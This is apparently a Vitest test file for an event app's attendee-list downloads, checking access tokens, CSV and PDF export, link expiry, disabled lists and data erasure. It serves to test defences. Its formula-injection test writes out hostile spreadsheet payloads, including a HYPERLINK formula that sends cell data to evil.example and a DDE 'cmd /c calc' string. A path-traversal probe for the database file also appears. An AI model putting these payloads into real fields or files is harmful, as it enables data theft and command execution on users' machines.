import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { removeOwnEvent } from '#server/features/events/events.service';
import { eraseDue, eraseEvent } from '#server/features/gdpr/erase';
import { DOWNLOADS } from '#shared/constants';
import { M } from '#shared/messages';
import { clock, dl, refusal, server, withDownloadsServer } from '../helpers/downloads-server';
import {
  fetchFile,
  insertEvent,
  joinEvent,
  parseCsv,
  pdfImageCount,
  pdfPageCount,
  pdfText,
} from '../helpers/downloads-world';

// Attendee-list downloads over real HTTP (spec §2 download card, §6 visitor rule, §7 create-download-
// payment / download-attendees / verify-download-payment; issue 9 items 3, 4, 6): the real server on port
// 0 with a real SQLite file, the built-in test checkout as the payment provider, files fetched from
// /api/downloads/{key} as a browser would.
// Free lists, the files themselves (CSV, formula injection, PDF) and a disabled list; paid lists and
// PAYMENTS=off are in downloads-paid-http.test.ts.

withDownloadsServer();

describe('free download (price 0): the browser must hold the token of a registration of this event', () => {
  let eventId: string;
  let grace: Awaited<ReturnType<typeof joinEvent>>;
  let elsewhere: Awaited<ReturnType<typeof joinEvent>>;

  beforeAll(async () => {
    eventId = await insertEvent(server, { name: 'Tech Night: Leeds/Bradford', download_price: 0 });
    grace = await joinEvent(server, eventId, {
      first_name: 'Grace',
      last_name: 'Hopper',
      email: 'grace@example.com',
      headline: 'Rear Admiral, "COBOL", compilers',
      share_in_download: true,
    });
    await joinEvent(server, eventId, {
      first_name: 'Alan',
      last_name: 'Turing',
      phone: '+44 7700 900123',
      share_in_download: true,
    });
    const other = await insertEvent(server, { download_price: 0 });
    elsewhere = await joinEvent(server, other, { first_name: 'Ada', last_name: 'Lovelace' });
  });

  it('refuses a wrong token, a token of another event and a made-up registration', async () => {
    const base = { eventId, format: 'csv' as const };
    for (const proof of [
      { registrationId: grace.registrationId, registrationToken: crypto.randomUUID() },
      { registrationId: elsewhere.registrationId, registrationToken: elsewhere.token },
      { registrationId: crypto.randomUUID(), registrationToken: grace.token },
    ]) {
      expect(await refusal(dl().prepare.mutate({ ...base, ...proof }))).toEqual({
        message: M.downloads.notRegistered,
        code: 'FORBIDDEN',
      });
    }
  });

  it('with the matching token: a CSV attachment whose rows are the attendees, quoted properly', async () => {
    const r = await dl().prepare.mutate({
      eventId,
      format: 'csv',
      registrationId: grace.registrationId,
      registrationToken: grace.token,
    });
    expect(r.fileName).toBe('Tech Night Leeds Bradford attendees.csv');
    expect(r.downloadUrl).toMatch(/^\/api\/downloads\/[a-z0-9]{32}$/);
    const { res, bytes } = await fetchFile(server, r.downloadUrl);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="Tech Night Leeds Bradford attendees.csv"',
    );
    expect(res.headers.get('cache-control')).toBe('no-store');
    const text = bytes.toString('utf8');
    expect(text.startsWith('\uFEFF"First name","Last name"')).toBe(true);
    expect(parseCsv(text)).toEqual([
      ['First name', 'Last name', 'Email', 'Phone', 'Headline', 'Checked in (UTC)', 'Joined (UTC)'],
      ['Alan', 'Turing', '', "'+44 7700 900123", '', '', '2026-11-22 12:00'],
      ['Grace', 'Hopper', 'grace@example.com', '', 'Rear Admiral, "COBOL", compilers', '', '2026-11-22 12:00'],
    ]);
  });

  it("gives check-in and join times on the event's own clocks, naming its zone", async () => {
    const nyc = await insertEvent(server, { name: 'Meetup NYC', download_price: 0, time_zone: 'America/New_York' });
    const ada = await joinEvent(server, nyc, { first_name: 'Ada', last_name: 'Lovelace' });
    // checked in at 03:15 UTC the next day: still the evening before in New York
    await server.deps.db
      .updateTable('event_registrations')
      .set({ checked_in_at: '2026-11-23T03:15:00.000Z' })
      .where('id', '=', ada.registrationId)
      .execute();
    const r = await dl().prepare.mutate({
      eventId: nyc,
      format: 'csv',
      registrationId: ada.registrationId,
      registrationToken: ada.token,
    });
    expect(parseCsv((await fetchFile(server, r.downloadUrl)).bytes.toString('utf8'))).toEqual([
      ['First name', 'Last name', 'Headline', 'Checked in (America/New_York)', 'Joined (America/New_York)'],
      ['Ada', 'Lovelace', '', '2026-11-22 22:15', '2026-11-22 07:00'],
    ]);
  });

  it('never needs a checkout: createPayment says the list is free', async () => {
    const input = {
      eventId,
      format: 'csv' as const,
      registrationId: grace.registrationId,
      registrationToken: grace.token,
    };
    expect((await refusal(dl().createPayment.mutate(input))).message).toBe(M.downloads.noPaymentNeeded);
  });

  it('the file link is random and short-lived: unknown and expired keys give 404', async () => {
    expect((await fetchFile(server, `/api/downloads/${'a'.repeat(32)}`)).res.status).toBe(404);
    expect((await fetchFile(server, '/api/downloads/..%2F..%2Fapp.db')).res.status).toBe(404);
    const r = await dl().prepare.mutate({
      eventId,
      format: 'csv',
      registrationId: grace.registrationId,
      registrationToken: grace.token,
    });
    clock.advance(DOWNLOADS.FILE_TTL_MS - 1);
    expect((await fetchFile(server, r.downloadUrl)).res.status).toBe(200);
    clock.advance(1);
    const gone = await fetchFile(server, r.downloadUrl);
    expect(gone.res.status).toBe(404);
    expect(JSON.parse(gone.bytes.toString())).toEqual({ error: M.downloads.failed });
  });
});

describe('spreadsheet formula injection', () => {
  it('neutralises every cell starting with = + - @, tab or CR by a leading quote (parsed back)', async () => {
    const eventId = await insertEvent(server, { download_price: 0 });
    const me = await joinEvent(server, eventId, {
      first_name: 'Mallory',
      last_name: 'Evil',
      headline: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    });
    // Names the join form would refuse, written straight into the store: the file must be safe whatever
    // the rows hold (older data, an import, a future form).
    const now = clock.now().toISOString();
    const evil = ['=1+1', '+SUM(A1)', '-2+3', '@cmd', '\tTAB', '\rCR', '＝FULLWIDTH'];
    for (const [i, first] of evil.entries()) {
      await server.deps.db
        .insertInto('event_registrations')
        .values({
          id: crypto.randomUUID(),
          event_id: eventId,
          first_name: first,
          last_name: `Row${i}`,
          email: '=cmd|"/c calc"!A0',
          phone: null,
          headline: '@SUM(1,2)',
          share_in_download: 1,
          photo_url: null,
          registration_token_hash: `x-${crypto.randomUUID()}`,
          checked_in_at: null,
          created_at: now,
          updated_at: now,
        })
        .execute();
    }
    const r = await dl().prepare.mutate({
      eventId,
      format: 'csv',
      registrationId: me.registrationId,
      registrationToken: me.token,
    });
    const rows = parseCsv((await fetchFile(server, r.downloadUrl)).bytes.toString('utf8')).slice(1);
    const firsts = rows.map((row) => row[0]);
    for (const first of evil) expect(firsts).toContain(`'${first}`);
    expect(firsts).toContain('Mallory');
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/);
    }
    const mallory = rows.find((row) => row[0] === 'Mallory');
    expect(mallory?.[3]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
  });
});

describe('PDF: a printable attendee sheet', () => {
  it('is a valid PDF with the event on top, every attendee by name and headline, photos, and pages', async () => {
    const eventId = await insertEvent(server, { name: 'Sheet Night', download_price: 0 });
    const people = Array.from({ length: 30 }, (_, i) => ({
      first_name: `Person${String(i).padStart(2, '0')}`,
      last_name: 'Example',
      headline: `Role number ${i}`,
    }));
    const joined = [];
    for (const p of people) joined.push(await joinEvent(server, eventId, p));
    // A photo file gone from disk (moved, restored from an old backup) must not fail the sheet.
    const lost = joined[3].photoUrl ?? '';
    fs.rmSync(path.join(server.dataDir, 'uploads', lost.replace(/^\/uploads\//, '')));

    const r = await dl().prepare.mutate({
      eventId,
      format: 'pdf',
      registrationId: joined[0].registrationId,
      registrationToken: joined[0].token,
    });
    expect(r.fileName).toBe('Sheet Night attendees.pdf');
    const { res, bytes } = await fetchFile(server, r.downloadUrl);
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="Sheet Night attendees.pdf"');
    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
    expect(bytes.subarray(-6).toString()).toMatch(/%%EOF/);
    expect(pdfPageCount(bytes)).toBeGreaterThanOrEqual(3); // 30 rows of 58 pt on A4
    expect(pdfImageCount(bytes)).toBe(29); // every photo but the lost one (initials instead)
    const text = pdfText(bytes);
    expect(text).toContain('Sheet Night');
    expect(text).toContain('30 attendees');
    for (const p of people) {
      expect(text).toContain(`${p.first_name} ${p.last_name}`);
      expect(text).toContain(p.headline);
    }
    expect(text).toContain(`Page 1 of ${pdfPageCount(bytes)}`);
  });

  it('is refused when the event offers only CSV', async () => {
    const eventId = await insertEvent(server, { download_formats: ['csv'] });
    const me = await joinEvent(server, eventId, { first_name: 'Grace', last_name: 'Hopper' });
    const input = { eventId, registrationId: me.registrationId, registrationToken: me.token };
    expect((await refusal(dl().prepare.mutate({ ...input, format: 'pdf' }))).message).toBe(M.downloads.notOffered);
    await expect(dl().prepare.mutate({ ...input, format: 'csv' })).resolves.toBeTruthy();
  });
});

describe('downloads disabled', () => {
  it('refuses prepare and createPayment even to a registered browser', async () => {
    const eventId = await insertEvent(server, { download_enabled: false, download_price: 500 });
    const me = await joinEvent(server, eventId, { first_name: 'Grace', last_name: 'Hopper' });
    const input = { eventId, format: 'csv' as const, registrationId: me.registrationId, registrationToken: me.token };
    expect(await refusal(dl().prepare.mutate(input))).toEqual({ message: M.downloads.notOffered, code: 'FORBIDDEN' });
    expect((await refusal(dl().createPayment.mutate(input))).message).toBe(M.downloads.notOffered);
  });
});

describe('erasure reaches prepared files', () => {
  const prepareBoth = async (eventId: string, who: Awaited<ReturnType<typeof joinEvent>>) => {
    const proof = { eventId, registrationId: who.registrationId, registrationToken: who.token };
    const csv = await dl().prepare.mutate({ ...proof, format: 'csv' });
    const pdf = await dl().prepare.mutate({ ...proof, format: 'pdf' });
    for (const r of [csv, pdf]) expect((await fetchFile(server, r.downloadUrl)).res.status).toBe(200);
    return [csv.downloadUrl, pdf.downloadUrl];
  };

  it('"Delete Attendee Data Now", the erasure job and deleting the event stop the links at once', async () => {
    const erasures = [
      (id: string) => eraseEvent(server.deps, id),
      (id: string) =>
        server.deps.db
          .updateTable('events')
          .set({ scheduled_deletion_date: '2000-01-01T00:00:00.000Z' })
          .where('id', '=', id)
          .execute()
          .then(() => eraseDue(server.deps)),
      async (id: string) => {
        const { user_id } = await server.deps.db
          .selectFrom('events')
          .select('user_id')
          .where('id', '=', id)
          .executeTakeFirstOrThrow();
        await removeOwnEvent(server.deps, user_id, id);
      },
    ];
    for (const erase of erasures) {
      const eventId = await insertEvent(server, { download_price: 0 });
      const grace = await joinEvent(server, eventId, { first_name: 'Grace', last_name: 'Hopper' });
      const links = await prepareBoth(eventId, grace);
      await erase(eventId);
      for (const link of links) {
        const { res, bytes } = await fetchFile(server, link);
        expect(res.status).toBe(404);
        expect(bytes.toString()).not.toContain('Grace');
      }
    }
  });
});
